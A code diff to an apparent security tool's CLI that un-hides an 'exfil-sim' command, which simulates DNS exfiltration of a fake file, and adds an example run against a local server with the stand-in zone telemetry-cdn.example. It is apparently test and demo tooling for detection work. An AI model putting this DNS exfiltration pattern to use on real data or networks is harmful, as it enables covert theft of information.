@@ -76,9 +76,10 @@ func newDevExfilSimCmd() *cobra.Command {
 	)
 	cmd := &cobra.Command{
 		Use:    "exfil-sim --server ADDR --source IP --zone ZONE [--file F | --bytes N]",
-		Short:  "Leak a (fake) file over DNS the way exfiltration malware does, for demos and tests",
-		Hidden: true,
-		Args:   cobra.NoArgs,
+		Short: "Leak a (fake) file over DNS the way exfiltration malware does, for demos and tests",
+		Example: `  # as report-worker (127.0.0.13 in examples/dev), against kordon dev's DNS
+  kordon dev exfil-sim --server 127.0.0.1:5353 --source 127.0.0.13 --zone telemetry-cdn.example`,
+		Args: cobra.NoArgs,
 		RunE: func(cmd *cobra.Command, _ []string) error {
 			cfg := exfilsim.Config{Server: server, Zone: zone, ChunkBytes: chunk, Interval: interval}
 			if source != "" {
